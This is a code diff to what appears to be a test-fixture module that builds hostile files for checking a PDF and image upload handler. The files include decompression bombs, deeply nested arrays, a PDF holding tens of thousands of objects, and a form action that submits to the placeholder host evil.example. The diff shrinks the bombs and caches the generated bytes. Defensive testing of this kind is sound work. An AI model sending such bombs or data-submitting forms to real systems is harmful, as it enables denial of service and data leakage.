@@ -6,6 +6,7 @@ import zipfile
 import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
+from functools import cached_property
 from typing import Any
 
 import pikepdf
@@ -37,6 +38,11 @@ class Hostile:
     said: str = ""
     name: str = "relazione.pdf"
 
+    @cached_property
+    def data(self) -> bytes:
+        """Made once: some of them take a second."""
+        return self.make()
+
 
 # Pictures -----------------------------------------------------------------------------------------------------------
 def chunk(kind: bytes, data: bytes) -> bytes:
@@ -51,8 +57,8 @@ def png(side: int, pixels: bytes = b"\0" * 9, *more: bytes) -> bytes:
 
 
 def large_png(side: int) -> bytes:
-    """All of its pixels are there: half a gigabyte of black in half a megabyte."""
-    packer, rows = zlib.compressobj(9), []
+    """All of its pixels are there: half a gigabyte of black in two megabytes."""
+    packer, rows = zlib.compressobj(1), []
     for _n in range(side):
         rows.append(packer.compress(bytes(1 + 3 * side)))
     header = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
@@ -192,12 +198,11 @@ def file_on_a_page(document: pikepdf.Pdf) -> None:
 
 def form_that_sends(document: pikepdf.Pdf) -> None:
     action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
-    annotated(document, Subtype=pikepdf.Name.Widget, A=action)
+    annotated(document, Subtype=pikepdf.Name.Link, A=action)
 
 
 def many_objects(document: pikepdf.Pdf) -> None:
-    for n in range(50_001):
-        document.make_indirect(pikepdf.Array([n]))
+    document.Root.X = pikepdf.Array([document.make_indirect(pikepdf.Array([n])) for n in range(50_001)])
 
 
 def in_disguise() -> bytes:
@@ -208,7 +213,7 @@ def in_disguise() -> bytes:
 
 def packed(kind: bytes, size: int, head: bytes = b"", more: bytes = b"") -> bytes:
     """A PDF whose table, or a box of objects in it, unpacks to so many bytes of nothing."""
-    packer = zlib.compressobj(9)
+    packer = zlib.compressobj(1)
     body = packer.compress(head)
     for _n in range(size // 1024**2):
         body += packer.compress(bytes(1024 * 1024))
@@ -218,9 +223,9 @@ def packed(kind: bytes, size: int, head: bytes = b"", more: bytes = b"") -> byte
 
 
 def bomb_of_objects() -> bytes:
-    """Its pages lie in a box of 500 MB."""
+    """Its pages lie in a box of 200 MB."""
     head = b"1 0 2 30 <</Type/Catalog/Pages 2 0 R>>     <</Type/Pages/Kids[]/Count 0>>"
-    box = packed(b"ObjStm", 500 * 1024**2, head, b"/N 2/First 9")
+    box = packed(b"ObjStm", 200 * 1024**2, head, b"/N 2/First 9")
     begin = b"%PDF-1.7\n"
     table = len(begin + box)
     # One byte for the kind, four for the place, one for the number.
@@ -232,22 +237,22 @@ def bomb_of_objects() -> bytes:
 
 
 def bomb_as_table() -> bytes:
-    """Its table of contents has 500 MB."""
+    """Its table of contents has 200 MB."""
     begin = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
-    table = packed(b"XRef", 500 * 1024**2, b"", b"/W[1 4 1]/Size 80000000/Root 1 0 R")
+    table = packed(b"XRef", 200 * 1024**2, b"", b"/W[1 4 1]/Size 80000000/Root 1 0 R")
     return begin + table + b"startxref\n%d\n%%%%EOF\n" % len(begin)
 
 
 def bomb_on_a_page(document: pikepdf.Pdf) -> None:
-    """What is drawn unpacks to 300 MB; nobody here draws it."""
-    packer = zlib.compressobj(9)
-    body = b"".join([*(packer.compress(b" " * 1024 * 1024) for _n in range(300)), packer.flush()])
+    """What is drawn unpacks to 200 MB; nobody here draws it."""
+    packer = zlib.compressobj(1)
+    body = b"".join([*(packer.compress(b" " * 1024 * 1024) for _n in range(200)), packer.flush()])
     document.pages[0].Contents = pikepdf.Stream(document, body, Filter=pikepdf.Name.FlateDecode)
 
 
 def nested(depth: int) -> bytes:
-    """Lists in lists."""
-    return made_pdf(lambda document: None).replace(b"/Root", b"/X " + b"[" * depth + b"]" * depth + b"/Root")
+    """Lists in lists in the first of its objects."""
+    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * depth + b"]" * depth)
 
 
 COLLECTION: dict[str, Hostile] = {
